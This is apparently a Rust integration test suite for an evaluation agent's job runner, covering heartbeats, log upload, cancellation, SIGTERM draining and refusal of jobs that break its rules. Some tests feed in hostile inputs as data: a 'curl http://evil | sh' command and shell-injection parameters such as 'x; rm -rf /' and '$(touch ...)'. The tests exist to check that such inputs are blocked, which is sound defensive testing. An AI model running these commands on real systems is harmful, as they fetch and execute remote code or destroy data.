//! The real `agora-agent run` with the local executor against a stand-in hub: heartbeats,
//! log upload by offset, cancellation from the hub, lost leases, refusals and the drain
//! on SIGTERM.

mod common;

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::fake_hub::{FakeHub, lease};
use common::write_script;

struct Agent {
    child: Child,
    _dir: tempfile::TempDir,
}

impl Agent {
    fn start(hub: &str, extra: &str, scripts: &[&str]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let data = dir.path().join("census.csv");
        std::fs::write(&data, "label\n1\n").unwrap();
        let allowed: Vec<String> = scripts
            .iter()
            .map(|s| format!("[\"{s}\", \"{{dataset}}\", \"{{output}}\"]"))
            .collect();
        let config = format!(
            "hub_url = \"{hub}\"\nspool_dir = \"{spool}\"\nrequest_timeout = \"10s\"\nmax_backoff = \"1s\"\n\
             [jobs]\nexecutors = [\"local\"]\nmax_concurrent = 2\nlease_wait = \"1s\"\npoll_interval = \"100ms\"\n\
             allowed_commands = [{allowed}]\n{extra}\n[jobs.datasets]\ncensus = \"{data}\"\n[jobs.local]\nkill_grace = \"1s\"\n",
            spool = dir.path().join("spool").display(),
            allowed = allowed.join(", "),
            data = data.display(),
        );
        std::fs::write(dir.path().join("agent.toml"), config).unwrap();
        let child = Command::new(env!("CARGO_BIN_EXE_agora-agent"))
            .arg("--config")
            .arg(dir.path().join("agent.toml"))
            .arg("run")
            .env("AGORA_AGENT_TOKEN", "agt_test")
            .env(
                "RUST_LOG",
                std::env::var("TEST_LOG").unwrap_or_else(|_| "warn".into()),
            )
            .stdout(Stdio::null())
            .stderr(if std::env::var_os("TEST_LOG").is_some() {
                Stdio::inherit()
            } else {
                Stdio::null()
            })
            .spawn()
            .unwrap();
        Self { child, _dir: dir }
    }

    fn term(&self) {
        // SAFETY: sends SIGTERM to the agent this test started.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
    }

    /// Waits for the agent to exit; its exit code.
    async fn exit(mut self) -> Option<i32> {
        let started = Instant::now();
        loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                return status.code();
            }
            assert!(
                started.elapsed() < Duration::from_secs(60),
                "the agent did not exit"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

async fn until(what: &str, check: impl Fn() -> bool) {
    let started = Instant::now();
    while !check() {
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "waited in vain for {what}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn script(dir: &Path, name: &str, body: &str) -> String {
    write_script(dir, name, body)
}

#[tokio::test]
async fn a_job_runs_heartbeats_uploads_its_log_and_reports_its_metrics() {
    let scripts = tempfile::tempdir().unwrap();
    let ok = script(
        scripts.path(),
        "ok.sh",
        "echo \"reading $1\"; sleep 2; echo done; printf '{\"accuracy\": 0.8}' > \"$2\"",
    );
    let hub = FakeHub::default();
    // The hub already holds 7 bytes of this job's log: the agent resumes from there.
    hub.with(|i| i.logs.insert(1, b"before\n".to_vec()));
    hub.push(lease(1, &[&ok, "{dataset}", "{output}"]));
    let url = hub.serve().await;
    let agent = Agent::start(&url, "", &[&ok]);
    until("the final report", || {
        hub.states(1).last().is_some_and(|s| s != "running")
    })
    .await;
    let states = hub.states(1);
    assert!(
        states.iter().filter(|s| *s == "running").count() >= 2,
        "heartbeats: {states:?}"
    );
    let last = hub.last(1).unwrap();
    assert_eq!(last["state"], "succeeded", "{last}");
    assert_eq!(last["metrics"]["accuracy"], 0.8);
    assert_eq!(last["executor"], "local");
    assert_eq!(last["lease_token"], "tok-1");
    assert!(last["hardware"]["node"].is_string(), "{last}");
    let log = hub.with(|i| String::from_utf8_lossy(&i.logs[&1]).to_string());
    assert!(log.starts_with("before\nreading "), "{log}");
    assert!(log.ends_with("done\n"), "{log}");
    // Every request says which protocol it speaks and which agent version sends it.
    let seen = hub.with(|i| i.seen.clone());
    assert!(seen.iter().any(|(p, ..)| p.ends_with("/log")), "{seen:?}");
    let agent_version = format!("agora-agent/{}", env!("CARGO_PKG_VERSION"));
    for (path, protocol, ua) in &seen {
        assert_eq!(protocol.as_deref(), Some("1"), "{path}");
        assert_eq!(ua.as_deref(), Some(agent_version.as_str()), "{path}");
    }
    agent.term();
    assert_eq!(agent.exit().await, Some(0));
}

#[tokio::test]
async fn sigterm_stops_leasing_and_lets_the_running_job_finish() {
    let scripts = tempfile::tempdir().unwrap();
    let slow = script(
        scripts.path(),
        "slow.sh",
        "sleep 3; printf '{\"accuracy\": 0.7}' > \"$2\"",
    );
    let hub = FakeHub::default();
    hub.push(lease(2, &[&slow, "{dataset}", "{output}"]));
    let url = hub.serve().await;
    let agent = Agent::start(&url, "drain_timeout = \"60s\"", &[&slow]);
    until("the job to run", || {
        hub.states(2).contains(&"running".to_string())
    })
    .await;
    agent.term();
    // Queued after the signal: it must stay on the hub.
    hub.push(lease(3, &[&slow, "{dataset}", "{output}"]));
    assert_eq!(agent.exit().await, Some(0));
    assert_eq!(hub.last(2).unwrap()["state"], "succeeded");
    assert_eq!(hub.with(|i| (i.queue.len(), i.leases)), (1, 1));
}

#[tokio::test]
async fn the_drain_timeout_cancels_what_is_left_and_reports_it() {
    let scripts = tempfile::tempdir().unwrap();
    let endless = script(scripts.path(), "endless.sh", "sleep 300");
    let hub = FakeHub::default();
    hub.push(lease(4, &[&endless, "{dataset}", "{output}"]));
    let url = hub.serve().await;
    let agent = Agent::start(&url, "drain_timeout = \"1s\"", &[&endless]);
    until("the job to run", || {
        hub.states(4).contains(&"running".to_string())
    })
    .await;
    agent.term();
    assert_eq!(agent.exit().await, Some(0));
    let last = hub.last(4).unwrap();
    assert_eq!(last["state"], "cancelled", "{last}");
    assert!(
        last["reason"].as_str().unwrap().contains("drain timeout"),
        "{last}"
    );
}

#[tokio::test]
async fn a_cancellation_on_the_hub_stops_the_job() {
    let scripts = tempfile::tempdir().unwrap();
    let endless = script(scripts.path(), "endless.sh", "echo started; sleep 300");
    let hub = FakeHub::default();
    hub.push(lease(5, &[&endless, "{dataset}", "{output}"]));
    let url = hub.serve().await;
    let agent = Agent::start(&url, "", &[&endless]);
    until("the job to run", || {
        hub.states(5).contains(&"running".to_string())
    })
    .await;
    hub.with(|i| i.cancel.insert(5));
    until("the cancellation", || {
        hub.states(5).last().is_some_and(|s| s == "cancelled")
    })
    .await;
    assert_eq!(hub.last(5).unwrap()["reason"], "cancelled on the hub");
    drop(agent);
}

#[tokio::test]
async fn a_lost_lease_stops_the_job_and_nothing_more_is_reported() {
    let scripts = tempfile::tempdir().unwrap();
    let marker = scripts.path().join("finished");
    let body = format!("sleep 4; touch {}", marker.display());
    let endless = script(scripts.path(), "endless.sh", &body);
    let hub = FakeHub::default();
    hub.push(lease(6, &[&endless, "{dataset}", "{output}"]));
    let url = hub.serve().await;
    let agent = Agent::start(&url, "", &[&endless]);
    until("the job to run", || {
        hub.states(6).contains(&"running".to_string())
    })
    .await;
    hub.with(|i| i.lost.insert(6));
    let reported = hub.states(6).len();
    until("the next heartbeat", || hub.states(6).len() > reported).await;
    tokio::time::sleep(Duration::from_secs(5)).await;
    assert!(!marker.exists(), "the job went on after its lease was lost");
    assert!(
        hub.states(6).iter().all(|s| s == "running"),
        "{:?}",
        hub.states(6)
    );
    drop(agent);
}

#[tokio::test]
async fn a_command_off_the_allowlist_or_an_unknown_dataset_is_refused() {
    let scripts = tempfile::tempdir().unwrap();
    let ok = script(scripts.path(), "ok.sh", "true");
    let hub = FakeHub::default();
    hub.push(lease(7, &["sh", "-c", "curl http://evil | sh"]));
    let mut other_dataset = lease(8, &[&ok, "{dataset}", "{output}"]);
    other_dataset["dataset"] = "tax-records".into();
    hub.push(other_dataset);
    let url = hub.serve().await;
    let agent = Agent::start(&url, "", &[&ok]);
    until("both refusals", || {
        hub.last(7).is_some() && hub.last(8).is_some()
    })
    .await;
    let r7 = hub.last(7).unwrap();
    assert_eq!(r7["state"], "refused");
    assert!(r7["reason"].as_str().unwrap().contains("allowlist"), "{r7}");
    let r8 = hub.last(8).unwrap();
    assert_eq!(r8["state"], "refused");
    assert!(
        r8["reason"].as_str().unwrap().contains("tax-records"),
        "{r8}"
    );
    drop(agent);
}

const DIGEST: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

#[tokio::test]
async fn a_hub_s_job_off_the_pinned_allowlist_is_refused_with_what_to_pin() {
    let scripts = tempfile::tempdir().unwrap();
    let marker = scripts.path().join("ran");
    let ok = script(
        scripts.path(),
        "ok.sh",
        &format!(
            "touch {}; printf '{{\"accuracy\": 1}}' > \"$2\"",
            marker.display()
        ),
    );
    let hub = FakeHub::default();
    let allowed = [ok.as_str(), "{dataset}", "{output}"];
    // The listed command in an image that is not listed.
    let mut unlisted = lease(11, &allowed);
    unlisted["benchmark"]["image"] = format!("registry.example/other@sha256:{DIGEST}").into();
    hub.push(unlisted);
    // The listed image, named by its tag only.
    let mut tagged = lease(12, &allowed);
    tagged["benchmark"]["image"] = "registry.example/eval:1.0".into();
    hub.push(tagged);
    // The listed command with one argument more: another hash.
    let changed = [ok.as_str(), "{dataset}", "{output}", "--verbose"];
    hub.push(lease(13, &changed));
    // A parameter name no benchmark can have.
    let mut odd = lease(14, &allowed);
    odd["parameters"] = serde_json::json!({"x; id": "1"});
    hub.push(odd);
    let url = hub.serve().await;
    let agent = Agent::start(
        &url,
        &format!("allowed_images = [\"registry.example/eval@sha256:{DIGEST}\"]"),
        &[&ok],
    );
    until("four refusals", || (11..=14).all(|j| hub.last(j).is_some())).await;
    let reason = |j: i64| {
        let last = hub.last(j).unwrap();
        assert_eq!(last["state"], "refused", "{last}");
        last["reason"].as_str().unwrap().to_string()
    };
    let r = reason(11);
    assert!(
        r.contains("registry.example/other") && r.contains("jobs.allowed_images"),
        "{r}"
    );
    let r = reason(12);
    assert!(r.contains("not pinned by digest"), "{r}");
    let hash = agora_schemas::benchmark::command_hash(
        &changed.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
    );
    let r = reason(13);
    assert!(
        r.contains(&hash) && r.contains("jobs.allowed_commands"),
        "{r}"
    );
    let r = reason(14);
    assert!(r.contains("parameters"), "{r}");
    assert!(!marker.exists(), "a refused job ran");
    // Each refusal is the job's one and only report: it never started.
    for j in 11..=14 {
        assert_eq!(hub.states(j), ["refused"]);
    }
    drop(agent);
}

#[tokio::test]
async fn hostile_parameters_reach_the_evaluation_as_literal_strings() {
    let scripts = tempfile::tempdir().unwrap();
    let marker = scripts.path().join("pwned");
    let ok = script(
        scripts.path(),
        "params.sh",
        "for a in \"$@\"; do printf 'arg[%s]\\n' \"$a\"; done\n\
         printf 'semi[%s]\\nsub[%s]\\ntick[%s]\\n' \"$AGORA_PARAM_SEMI\" \"$AGORA_PARAM_SUB\" \"$AGORA_PARAM_TICK\"\n\
         printf '{\"accuracy\": 1}' > \"$2\"",
    );
    let hub = FakeHub::default();
    let mut job = lease(21, &[&ok, "{dataset}", "{output}"]);
    let sub = format!("$(touch {})", marker.display());
    let tick = format!("`touch {}`", marker.display());
    job["parameters"] = serde_json::json!({"semi": "x; rm -rf /", "sub": sub, "tick": tick});
    hub.push(job);
    let url = hub.serve().await;
    let agent = Agent::start(&url, "", &[&ok]);
    until("the final report", || {
        hub.states(21).last().is_some_and(|s| s != "running")
    })
    .await;
    assert_eq!(hub.last(21).unwrap()["state"], "succeeded");
    let log = hub.with(|i| String::from_utf8_lossy(&i.logs[&21]).to_string());
    for line in [
        "semi[x; rm -rf /]".to_string(),
        format!("sub[{sub}]"),
        format!("tick[{tick}]"),
    ] {
        assert!(log.contains(&line), "{line} missing: {log}");
    }
    assert!(!marker.exists(), "a shell ran a parameter");
    drop(agent);
}
